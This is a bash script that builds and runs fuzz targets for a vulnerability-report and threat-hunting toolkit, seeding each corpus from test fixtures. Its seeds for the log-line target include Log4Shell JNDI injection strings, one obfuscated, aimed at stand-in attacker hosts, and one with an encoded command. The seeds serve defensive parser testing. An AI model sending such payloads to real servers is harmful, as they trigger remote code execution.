#!/usr/bin/env bash
# Builds every fuzz target once, seeds each target's corpus from the test fixtures, then runs
# each target for SECONDS (default 10) and prints its final libFuzzer stats. Needs the nightly
# toolchain and cargo-fuzz (`cargo install cargo-fuzz --locked`). Exits non-zero when a target
# crashes; the input is saved under fuzz/artifacts/TARGET/.
#   fuzz/run.sh [SECONDS] [TARGET…]
set -euo pipefail
cd "$(dirname "$0")"
seconds=${1:-10}
shift || true
all="archive classfile report_json osv cve_container sbom stix hunt_line"
targets=${*:-$all}
root=..

# Seeds: the fixture files each parser is tested with.
seed() { # target, files…
  local dir=corpus/$1; shift
  mkdir -p "$dir"
  local f
  for f in "$@"; do [ -f "$f" ] && cp -n "$f" "$dir/seed-$(basename "$f")"; done
  return 0
}
mkdir -p corpus/report_json
printf '%s' '{"kind":"upstream_component","title":"JNDI lookup in log4j-core","technical_characteristics":"x","harm":"y","scope_of_impact":"z","affected_products":[{"vendor":"ASF","name":"Apache Log4j","model":"log4j-core","versions":["2.0-beta9 to 2.14.1"]}],"affected_packages":[{"ecosystem":"Maven","name":"org.apache.logging.log4j:log4j-core","ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"2.13.0"},{"fixed":"2.15.0"}]}]}],"cvss_vector":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H","cwes":["CWE-917"],"exploitation":"poc","aware_at":"2021-11-24T02:00:00Z","tlp":"AMBER","aliases":["CVE-2021-44228"]}' \
  > corpus/report_json/seed-log4shell.json
seed osv "$root"/crates/vulnshare-formats/tests/fixtures/osv/*.json
seed cve_container "$root"/crates/vulnshare-formats/tests/fixtures/cve/*.json \
  "$root"/crates/vulnshare-server/tests/fixtures/cve-services/*.json
seed sbom "$root"/crates/vulnshare-formats/tests/fixtures/sbom/*.json
mkdir -p corpus/stix corpus/hunt_line
printf '%s' '{"type":"bundle","id":"bundle--6f0b3f2e-5d44-4a3c-9f53-2c1d1c7e9b10","objects":[{"type":"indicator","spec_version":"2.1","id":"indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f","created":"2021-12-10T00:00:00.000Z","modified":"2021-12-10T00:00:00.000Z","pattern":"[ipv4-addr:value = '"'"'198.51.100.7'"'"']","pattern_type":"stix","valid_from":"2021-12-10T00:00:00Z","object_marking_refs":["marking-definition--55d920b0-5e8b-4f79-9ee9-91f868d9b421"]}]}' \
  > corpus/stix/seed-indicator.json
printf '%s\n' '198.51.100.7 - - [10/Dec/2021:10:00:00 +0000] "GET /?x=${${lower:j}ndi:${lower:l}${::-d}ap://evil.example/a} HTTP/1.1" 200 12 "-" "${jndi:ldap://198.51.100.9:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}"' \
  > corpus/hunt_line/seed-obfuscated.log
printf '%s\n' 'GET /%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D HTTP/1.1' > corpus/hunt_line/seed-url.log
# A small jar (pom.properties and a class from Debian's log4j-core when installed), its tar.gz.
mkdir -p corpus/archive corpus/classfile
python3 - corpus/archive corpus/classfile <<'PY'
import io, sys, tarfile, zipfile
archive, classfile = sys.argv[1:3]
cls = None
try:
    with zipfile.ZipFile("/usr/share/java/log4j-core.jar") as jar:
        cls = jar.read("org/apache/logging/log4j/core/lookup/JndiLookup.class")
except (OSError, KeyError):
    pass
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties",
               "groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n")
    if cls:
        z.writestr("org/apache/logging/log4j/core/lookup/JndiLookup.class", cls)
open(archive + "/seed-log4j-core.jar", "wb").write(buf.getvalue())
tgz = io.BytesIO()
with tarfile.open(fileobj=tgz, mode="w:gz") as t:
    info = tarfile.TarInfo("lib/log4j-core-2.14.1.jar"); info.size = len(buf.getvalue())
    t.addfile(info, io.BytesIO(buf.getvalue()))
open(archive + "/seed-app.tar.gz", "wb").write(tgz.getvalue())
if cls:
    open(classfile + "/seed-JndiLookup.class", "wb").write(cls)
PY

start=$SECONDS
cargo +nightly fuzz build -O 2>&1 | tail -3
echo "fuzz: built every target in $((SECONDS - start)) s"
failed=0
for target in $targets; do
  log=$(mktemp)
  if cargo +nightly fuzz run -O "$target" -- -max_total_time="$seconds" -rss_limit_mb=2048 \
    -max_len=262144 -timeout=10 -print_final_stats=1 >"$log" 2>&1; then
    runs=$(sed -n 's/^stat::number_of_executed_units: *//p' "$log")
    echo "fuzz ok: $target, $runs executions in ${seconds} s"
  else
    failed=$((failed + 1))
    echo "fuzz FAILED: $target"
    grep -E 'panicked|ERROR|SUMMARY|Test unit written' "$log" | head -20
  fi
  rm -f "$log"
done
echo "fuzz: $(( $(wc -w <<<"$targets") - failed )) passed, $failed failed"
[ "$failed" = 0 ]
